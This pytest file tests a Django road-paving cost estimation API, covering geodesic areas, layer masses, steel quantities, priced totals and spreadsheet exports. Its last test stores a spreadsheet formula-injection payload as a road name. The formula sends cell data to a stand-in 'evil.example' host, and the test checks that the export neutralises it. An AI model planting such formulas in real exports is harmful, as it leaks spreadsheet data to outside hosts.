"""POST /api/estimates/ and /api/templates/ against real PostGIS. Expected
numbers are worked out here: geodesic lengths/areas from pyproj, volumes
and masses from the template's thickness/density/loss (V = A·t, M = V·ρ),
steel from the joint layout and 0.00617·d², money from the price list."""
import csv
import io
import math
from decimal import ROUND_HALF_UP, Decimal

import pytest
from django.contrib.auth import get_user_model
from django.contrib.gis.geos import LineString
from openpyxl import load_workbook
from shapely.geometry import Polygon, shape

from estimates.errors import EstimateInputError
from estimates.models import PriceList, UnitPrice
from estimates.pricing import price_items
from layers.importers.postgis import refresh_measures
from layers.models import RoadSegment
from tests.conftest import shared_file
from tests.estimates.conftest import GEOD

pytestmark = pytest.mark.django_db

TANGERANG = (106.63, -6.18)


def geodesic_line(lon, lat, length_m, azimuth=90.0, n=2):
    """A polyline of n points along a geodesic of length_m (pyproj)."""
    pts = [[lon, lat]]
    for i in range(1, n):
        x, y, _ = GEOD.fwd(lon, lat, azimuth, length_m * i / (n - 1))
        pts.append([x, y])
    return {"type": "LineString", "coordinates": pts}


def estimate(client, **body):
    fmt, headers = body.pop("format", None), body.pop("headers", {})
    url = "/api/estimates/" + (f"?format={fmt}" if fmt else "")
    return client.post(url, body, content_type="application/json", **headers)


def templates(client):
    r = client.get("/api/templates/")
    assert r.status_code == 200
    return {t["code"]: t for t in r.json()}


def test_templates_list_bina_marga_fff_and_others(client):
    t = templates(client)
    assert {f"FFF{i}" for i in range(1, 10)} | {"RIGID-200", "PAVING-80", "OVERLAY-40", "PATCH-100"} <= set(t)
    # MDP 2017 Bagan Desain 3B (DOMAIN §2): AC-Base and LFA by FFF column
    ac_base = [0, 70, 80, 105, 145, 160, 180, 210, 245]
    lfa = [400, 300, 300, 300, 300, 300, 300, 300, 300]
    for i in range(9):
        layers = {layer["name"]: round(layer["thickness_m"] * 1000) for layer in t[f"FFF{i + 1}"]["layers"]}
        assert layers["AC-WC"] == 40 and layers["AC-BC"] == 60 and layers["LFA Kelas A"] == lfa[i]
        assert layers.get("AC-Base", 0) == ac_base[i]
        assert t[f"FFF{i + 1}"]["kind"] == "flexible"
    for tpl in t.values():  # every value carries a source or says estimate
        assert tpl["source"]
        for layer in tpl["layers"]:
            assert layer["source"] and layer["density_source"] and layer["loss_source"]
            assert layer["density_t_m3"] > 0 and layer["loss_factor"] >= 1
        for coat in tpl["coats"]:
            assert coat["source"] and coat["rate_l_m2"] > 0


@pytest.mark.parametrize("code", ["FFF1", "FFF5", "PAVING-80", "OVERLAY-40"])
def test_1km_by_7m_line_gives_7000_m2_and_layer_volumes_and_masses(client, code):
    tpl = templates(client)[code]
    r = estimate(client, geometry=geodesic_line(*TANGERANG, 1000.0), width_m=7, template=code)
    assert r.status_code == 200, r.content
    out = r.json()
    assert out["length_m"] == pytest.approx(1000.0, rel=1e-6)
    assert out["area_m2"] == pytest.approx(7000.0, rel=1e-3)
    assert len(out["layers"]) == len(tpl["layers"])
    for got, spec in zip(out["layers"], tpl["layers"]):
        volume = 7000.0 * spec["thickness_m"]
        assert got["volume_m3"] == pytest.approx(volume, rel=1e-3)
        assert got["mass_t"] == pytest.approx(volume * spec["density_t_m3"], rel=1e-3)
        mass = volume * spec["density_t_m3"]
        if spec["bitumen_share"]:  # SPEC §6: aggregate share × its loss, bitumen share × its loss
            b = spec["bitumen_share"]
            expected = mass * (1 - b) * spec["aggregate_loss_factor"] + mass * b * spec["bitumen_loss_factor"]
            assert spec["loss_factor"] == pytest.approx((1 - b) * spec["aggregate_loss_factor"] + b * spec["bitumen_loss_factor"])
        else:
            expected = mass * spec["loss_factor"]
        assert got["mass_with_loss_t"] == pytest.approx(expected, rel=1e-3)
    for got, spec in zip(out["coats"], tpl["coats"]):
        assert got["litres"] == pytest.approx(7000.0 * spec["rate_l_m2"], rel=1e-3)
    if code == "FFF1":  # DOMAIN §2 worked example: 1 km × 7 m of AC-WC 40 mm at 2.32 t/m³ = 649.6 t
        assert out["layers"][0]["mass_t"] == pytest.approx(649.6, rel=1e-3)


@pytest.mark.parametrize("lon,lat", [
    (-8.61, 41.15),     # Porto: UTM 29N, northern hemisphere
    (151.2, -33.87),    # Sydney: UTM 56S
    (-102.29, 21.88),   # Aguascalientes: UTM 13N
    (107.995, -6.5),    # crossing the 48S/49S zone boundary at 108°E
])
def test_same_line_elsewhere_gives_the_same_numbers(client, lon, lat):
    here = estimate(client, geometry=geodesic_line(*TANGERANG, 1000.0, n=5), width_m=7, template="FFF3").json()
    r = estimate(client, geometry=geodesic_line(lon, lat, 1000.0, n=5), width_m=7, template="FFF3")
    assert r.status_code == 200
    there = r.json()
    assert there["area_m2"] == pytest.approx(7000.0, rel=1e-3)
    assert there["area_m2"] == pytest.approx(here["area_m2"], rel=1e-6)
    for a, b in zip(here["layers"], there["layers"]):
        assert a["mass_t"] == pytest.approx(b["mass_t"], rel=1e-6)
    assert there["total"] == pytest.approx(here["total"], rel=1e-6)


def test_polygon_area_matches_geodesic_area(client):
    ring = [[106.630, -6.180], [106.640, -6.181], [106.642, -6.190], [106.633, -6.192], [106.630, -6.180]]
    geom = {"type": "Polygon", "coordinates": [ring]}
    r = estimate(client, geometry=geom, template="PAVING-80")
    assert r.status_code == 200, r.content
    expected = abs(GEOD.geometry_area_perimeter(Polygon(ring))[0])
    assert r.json()["area_m2"] == pytest.approx(expected, rel=1e-6)
    assert r.json()["layers"][0]["volume_m3"] == pytest.approx(expected * 0.08, rel=1e-6)


def test_real_kelurahan_polygon_area_matches_geodesic_area(client):
    import json

    data = json.loads(shared_file("tangerang_boundaries/kelurahan_kota_tangerang.geojson").read_text())
    feature = data["features"][0]
    geom = shape(feature["geometry"])
    assert geom.is_valid
    r = estimate(client, geometry=feature["geometry"], template="OVERLAY-40")
    assert r.status_code == 200, r.content
    assert r.json()["area_m2"] == pytest.approx(abs(GEOD.geometry_area_perimeter(geom)[0]), rel=1e-6)


def test_rigid_concrete_constituents_and_steel(client):
    L, W = 1002.5, 7.0
    r = estimate(client, geometry=geodesic_line(*TANGERANG, L), width_m=W, template="RIGID-200")
    assert r.status_code == 200, r.content
    out = r.json()
    area = L * W
    slab = out["concrete"][0]
    assert slab["grade"] == "K-350"
    # SNI 7394:2008 K-350 per m³: 448 kg cement, 667 sand, 1000 gravel, 215 L water; waste ×1.03
    assert slab["cement_kg"] == pytest.approx(area * 0.20 * 1.03 * 448, rel=1e-3)
    assert slab["gravel_kg"] == pytest.approx(area * 0.20 * 1.03 * 1000, rel=1e-3)
    assert slab["water_l"] == pytest.approx(area * 0.20 * 1.03 * 215, rel=1e-3)
    steel = {s["name"]: s for s in out["steel"]}
    dowel = steel["Ruji (dowel)"]
    # joints every 5 m → 200 internal joints; dowels at 0.30 m across 7 m → 23 each; slab 200 mm → Ø33 (DOMAIN §2)
    assert dowel["diameter_mm"] == 33 and dowel["count"] == 200 * 23
    assert dowel["kg"] == pytest.approx(200 * 23 * 0.45 * 0.00617 * 33**2, rel=1e-9)
    tie = steel["Batang pengikat (tie bar)"]
    # one longitudinal joint (lanes 3.5 m), D16 at 0.75 m over 1002.5 m → 1336 bars of 0.70 m
    assert tie["count"] == 1336 and tie["kg"] == pytest.approx(1336 * 0.70 * 0.00617 * 16**2, rel=1e-9)
    items = {i["code"]: i for i in out["items"]}
    assert float(items["7.3.(1)"]["quantity"]) == pytest.approx(dowel["kg"], abs=0.001)


def _money(x):
    return Decimal(x).quantize(Decimal("0.01"), rounding=ROUND_HALF_UP)


def test_cost_lines_and_totals_follow_the_price_list(client):
    r = estimate(client, geometry=geodesic_line(*TANGERANG, 500.0), width_m=6, template="FFF2")
    out = r.json()
    pl = PriceList.objects.get(pk=out["assumptions"]["price_list"]["id"])
    prices = {p.code: p.price for p in UnitPrice.objects.filter(price_list=pl)}
    general = {g.code: g for g in pl.general_items.all()}
    physical = Decimal("0")
    for item in out["items"]:
        if item["code"] in general:
            continue
        assert Decimal(str(item["unit_price"])) == prices[item["code"]]
        amount = _money(Decimal(str(item["quantity"])) * prices[item["code"]])
        assert Decimal(str(item["amount"])) == amount
        physical += amount
    # Divisi 1 and SMKK: a percentage of the physical works each (price list data)
    lines = {i["code"]: i for i in out["items"] if i["code"] in general}
    assert set(lines) == set(general) and {"1.2", "1.8", "1.21"} <= set(lines)
    for code, g in general.items():
        assert g.basis == "percent"
        assert Decimal(str(lines[code]["amount"])) == _money(physical * g.value / 100) and lines[code]["unit"] == "Ls"
    subtotal = physical + sum(Decimal(str(v["amount"])) for v in lines.values())
    assert Decimal(str(out["physical_subtotal"])) == physical and Decimal(str(out["subtotal"])) == subtotal
    overhead = _money(subtotal * pl.overhead_pct / 100)
    tax = _money((subtotal + overhead) * pl.tax_pct / 100)
    assert Decimal(str(out["overhead"])) == overhead and Decimal(str(out["tax"])) == tax
    unrounded = subtotal + overhead + tax
    assert Decimal(str(out["total_unrounded"])) == unrounded
    assert Decimal(str(out["total"])) == (unrounded / 1000).to_integral_value(rounding="ROUND_DOWN") * 1000  # down to Rp 1,000
    assert out["currency"] == "IDR" and out["total_words"].endswith("rupiah")
    # AC-WC paid by the mix with per-component losses: 500 × 6 × 0.04 × 2.32 t × (0.94 × 1.05 + 0.06 × 1.03)
    ac_wc = next(i for i in out["items"] if i["code"] == "6.3.(5a)")
    assert ac_wc["unit"] == "t" and float(ac_wc["quantity"]) == pytest.approx(round(500 * 6 * 0.04 * 2.32 * 1.0488, 2), abs=0.006)


def test_overlay_40_mix_has_separate_aggregate_and_bitumen_losses(client):
    """SPEC §6 / issue 14: 1 km × 7 m of OVERLAY-40 (AC-WC 40 mm, 2.32 t/m³, bitumen 6.0 % of the mix).
    Hand calculation: mix 7000 × 0.04 × 2.32 = 649.6 t (DOMAIN §2 example); aggregate 649.6 × 0.94 = 610.624 t
    × 1.05 = 641.1552 t; bitumen 649.6 × 0.06 = 38.976 t × 1.03 = 40.14528 t; mix with losses 681.30048 t
    (one factor 1.03 on the whole mix gave 669.088 t). Tack coat on the old surface at 0.35 L/m² → 2,450 L."""
    out = estimate(client, geometry=geodesic_line(*TANGERANG, 1000.0), width_m=7, template="OVERLAY-40").json()
    ac = out["layers"][0]
    assert ac["mass_t"] == pytest.approx(649.6, rel=1e-3)
    assert ac["aggregate_t"] == pytest.approx(610.624, rel=1e-3) and ac["aggregate_with_loss_t"] == pytest.approx(641.1552, rel=1e-3)
    assert ac["bitumen_t"] == pytest.approx(38.976, rel=1e-3) and ac["bitumen_with_loss_t"] == pytest.approx(40.14528, rel=1e-3)
    assert ac["mass_with_loss_t"] == pytest.approx(681.30048, rel=1e-3)
    line = next(i for i in out["items"] if i["code"] == "6.3.(5a)")
    assert float(line["quantity"]) == pytest.approx(681.30, abs=0.7)  # the RAB line is the tonnage with loss
    assert float(line["quantity"]) == round(ac["mass_with_loss_t"], 2)
    coat = out["coats"][0]
    assert coat["on_surface"] == "old_asphalt" and coat["litres"] == pytest.approx(7000 * 0.35, rel=1e-3)


def test_tack_coat_rate_follows_the_surface_it_goes_on(client):
    t = templates(client)
    rates = {(code, c["on_surface"]): c["rate_l_m2"] for code, tpl in t.items() for c in tpl["coats"]}
    # Spek 2010 R3 Tbl 6.1.4(1) (DOMAIN §2): new surface emulsion 0.20; porous/old 0.20–1.00
    assert rates[("FFF1", "new_asphalt")] == 0.20
    assert 0.20 < rates[("OVERLAY-40", "old_asphalt")] <= 1.00
    assert 0.20 < rates[("REHAB-100", "milled")] <= 1.00


def test_price_list_including_overhead_sets_overhead_to_zero(client):
    PriceList.objects.filter(is_active=True).update(prices_include_overhead=True)
    out = estimate(client, geometry=geodesic_line(*TANGERANG, 200.0), width_m=5, template="FFF1").json()
    assert out["overhead"] == 0
    assert out["tax"] == pytest.approx(out["subtotal"] * 0.11, abs=0.01)


def test_xlsx_opens_and_its_formulas_give_the_json(client):
    from tests.estimates.xlsx_eval import Evaluator

    client.force_login(get_user_model().objects.create_user("analis-ekspor"))  # exports need login (SPEC §4)
    body = {"geometry": geodesic_line(*TANGERANG, 750.0, n=3), "width_m": 7, "template": "RIGID-200"}
    js = estimate(client, **body).json()
    r = estimate(client, format="xlsx", **body)
    assert r.status_code == 200
    assert r["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    assert "attachment" in r["Content-Disposition"]
    wb = load_workbook(io.BytesIO(r.content))
    assert {"RAB", "Kuantitas", "Asumsi"} <= set(wb.sheetnames)
    ws = wb["RAB"]
    ev = Evaluator(wb)
    rows = [(i, list(row)) for i, row in enumerate(ws.iter_rows(values_only=True), 1)]
    items = [(i, row) for i, row in rows if isinstance(row[0], int)]
    assert [row[1] for _, row in items] == [i["code"] for i in js["items"]]
    for (i, row), item in zip(items, js["items"]):
        assert row[6] == f"=ROUND(E{i}*F{i},2)"  # quantity × price is a formula
        assert row[4] == pytest.approx(item["quantity"]) and ev.value("RAB", f"F{i}") == pytest.approx(item["unit_price"], abs=0.001)
        assert ev.value("RAB", f"G{i}") == pytest.approx(item["amount"], abs=0.001)
        assert ws.cell(i, 7).number_format.startswith("[$-421]")  # Indonesian separators
    labelled = {row[2]: i for i, row in rows if row[2] and row[6] is not None and not isinstance(row[0], int)}
    total_row = next(i for label, i in labelled.items() if str(label).startswith("TOTAL"))
    assert ev.value("RAB", f"G{total_row}") == pytest.approx(js["total"], abs=0.001)
    assert ev.value("RAB", f"G{labelled['Jumlah (subtotal)']}") == pytest.approx(js["subtotal"], abs=0.001)
    assert any(str(k).startswith("PPN") and ev.value("RAB", f"G{i}") == pytest.approx(js["tax"], abs=0.001) for k, i in labelled.items())
    subtotals = [i for i, row in rows if str(row[2] or "").startswith("Sub jumlah Divisi")]
    assert len(subtotals) == 3  # rigid: divisions 1 (general), 5 and 7
    assert any(row[1] == "Terbilang:" and row[2].lower() == js["total_words"] for _, row in rows)
    assert any("Disetujui" in str(c) for _, row in rows for c in row if c)
    text = " ".join(str(c) for _, row in rows for c in row if c)
    assert "Lokasi" in text and "PERHATIAN" in text  # drawn in Tangerang without a kabupaten/kota area: region unknown, flagged
    asumsi = {row[0]: row[1] for row in wb["Asumsi"].iter_rows(values_only=True) if row and row[0]}
    assert "Daftar harga sesuai wilayah lokasi" in asumsi and "Pembulatan total" in asumsi
    assert not any(str(k).startswith(("template.", "price_list.", "overhead_pct")) for k in asumsi)  # no developer keys


def test_csv_and_pdf_exports(client):
    client.force_login(get_user_model().objects.create_user("analis-ekspor"))  # exports need login (SPEC §4)
    body = {"geometry": geodesic_line(*TANGERANG, 300.0), "width_m": 6, "template": "FFF1"}
    js = estimate(client, **body).json()
    r = estimate(client, format="csv", **body)
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.content.decode())))
    assert rows[0][:2] == ["no", "code"]
    total_row = next(row for row in rows if row[2] == "TOTAL")
    assert Decimal(total_row[6]) == Decimal(str(js["total"])).quantize(Decimal("0.01"))
    r = estimate(client, format="pdf", **body)
    assert r.status_code == 200 and r["Content-Type"] == "application/pdf" and r.content.startswith(b"%PDF")


def _road(geom_coords, **kw):
    road = RoadSegment.objects.create(geom=LineString(geom_coords, srid=4326), source="test", **kw)
    refresh_measures(RoadSegment, [road.pk])
    return road


def test_road_ids_use_each_segments_own_width_or_the_class_default(client):
    a = geodesic_line(*TANGERANG, 400.0)["coordinates"]
    b = geodesic_line(106.64, -6.19, 250.0, azimuth=0)["coordinates"]
    c = geodesic_line(106.65, -6.20, 120.0, azimuth=45, n=4)["coordinates"]
    r1 = _road(a, road_class="collector", width_m=7.5)
    r2 = _road(b, road_class="local", lanes=2)
    r3 = _road(c, road_class="arterial")
    r = estimate(client, road_ids=[r1.pk, r2.pk, r3.pk], template="FFF4")
    assert r.status_code == 200, r.content
    out = r.json()
    expected = 400 * 7.5 + 250 * 2 * 3.0 + 120 * 14.0  # own width; lanes × 3.0 m; arterial default W = 14 m (SPEC §5)
    assert out["area_m2"] == pytest.approx(expected, rel=1e-6)
    assert out["length_m"] == pytest.approx(770.0, rel=1e-6)
    assert [p["width_m"] for p in out["assumptions"]["pieces"]] == [7.5, 6.0, 14.0]


def test_bad_input_gets_a_clear_4xx_and_writes_nothing(client):
    line = geodesic_line(*TANGERANG, 100.0)
    bowtie = {"type": "Polygon", "coordinates": [[[106.63, -6.18], [106.64, -6.19], [106.64, -6.18], [106.63, -6.19], [106.63, -6.18]]]}
    before = (RoadSegment.objects.count(), PriceList.objects.count(), UnitPrice.objects.count())
    cases = [
        ({"geometry": bowtie, "template": "FFF1"}, "geometry", "not valid"),
        ({"geometry": line, "width_m": 0, "template": "FFF1"}, "width_m", "positive"),
        ({"geometry": line, "width_m": -3, "template": "FFF1"}, "width_m", ""),
        ({"geometry": line, "template": "FFF1"}, "width_m", "required"),
        ({"geometry": line, "width_m": 7, "template": "FFF99"}, "template", "unknown template"),
        ({"geometry": line, "width_m": 7}, "template", ""),
        ({"geometry": {"type": "LineString", "coordinates": [[680000, 9316000], [681000, 9316000]]}, "width_m": 7, "template": "FFF1"}, "geometry", "lon/lat"),
        ({"geometry": {"type": "Point", "coordinates": [106.6, -6.2]}, "width_m": 7, "template": "FFF1"}, "geometry", "LineString"),
        ({"geometry": {"type": "LineString", "coordinates": [[106.6, -6.2], [106.6, -6.2]]}, "width_m": 7, "template": "FFF1"}, "geometry", "zero length"),
        ({"road_ids": [987654321], "template": "FFF1"}, "road_ids", "no road"),
        ({"geometry": line, "width_m": 7, "road_ids": [1], "template": "FFF1"}, "geometry", "either"),
        ({"geometry": line, "width_m": 7, "template": "FFF1", "region": "Atlantis"}, "price_list", "no price list"),
    ]
    for body, field, words in cases:
        r = estimate(client, **body, headers={"HTTP_ACCEPT_LANGUAGE": "en"})  # the words are the English texts
        assert r.status_code == 400, (body, r.content)
        data = r.json()
        assert field in data["errors"], (field, data)
        assert words.lower() in data["detail"].lower(), (words, data)
    client.force_login(get_user_model().objects.create_user("analis-ekspor"))  # exports need login (SPEC §4)
    r = client.post("/api/estimates/?format=xlsx", {"geometry": bowtie, "template": "FFF1"}, content_type="application/json")
    assert r.status_code == 400 and r["Content-Type"].startswith("application/json")
    assert (RoadSegment.objects.count(), PriceList.objects.count(), UnitPrice.objects.count()) == before


def test_price_items_prices_pju_materials_for_other_apps():
    bill = price_items([("PJU-POLE-9M", 12), ("PJU-LAMP-LED-90W", 12), ("PJU-ARM", 12), ("PJU-CABLE-M", 420.5)])
    pl = PriceList.objects.get(is_active=True)
    prices = {p.code: p.price for p in UnitPrice.objects.filter(price_list=pl, code__startswith="PJU-")}
    assert all("estimate" in p.source for p in UnitPrice.objects.filter(price_list=pl, code__startswith="PJU-"))
    subtotal = sum(_money(Decimal(str(q)) * prices[c]) for c, q in
                   [("PJU-POLE-9M", 12), ("PJU-LAMP-LED-90W", 12), ("PJU-ARM", 12), ("PJU-CABLE-M", 420.5)])
    assert bill["subtotal"] == subtotal
    assert bill["total"] == subtotal + _money(subtotal * Decimal("0.15")) + _money((subtotal + _money(subtotal * Decimal("0.15"))) * Decimal("0.11"))
    with pytest.raises(EstimateInputError) as exc:
        price_items([("PJU-UNKNOWN", 1)])
    assert "PJU-UNKNOWN" in exc.value.message


def test_overhead_above_15_percent_is_refused_by_the_model():
    from django.core.exceptions import ValidationError

    pl = PriceList.objects.get(is_active=True)
    pl.overhead_pct = Decimal("16")
    with pytest.raises(ValidationError):
        pl.full_clean()
    assert math.isclose(float(PriceList.objects.get(pk=pl.pk).overhead_pct), 15.0)


def test_rab_keeps_its_own_formulas_and_neutralises_formula_like_names(client):
    """Issue 12 × 14: a road named like a formula is text in the RAB (leading '), while the RAB's arithmetic stays live."""
    from estimates.exports import OWN_FORMULA

    client.force_login(get_user_model().objects.create_user("analis-rab"))
    evil = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    road = _road(geodesic_line(*TANGERANG, 200.0)["coordinates"], road_class="local", name=evil)
    r = estimate(client, format="xlsx", road_ids=[road.pk], template="OVERLAY-40")
    assert r.status_code == 200, r.content
    wb = load_workbook(io.BytesIO(r.content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert formulas and all(OWN_FORMULA.match(f) for f in formulas) and not any("HYPERLINK" in f for f in formulas)
    assert any(isinstance(c.value, str) and "HYPERLINK" in c.value and c.data_type == "s" for c in cells)
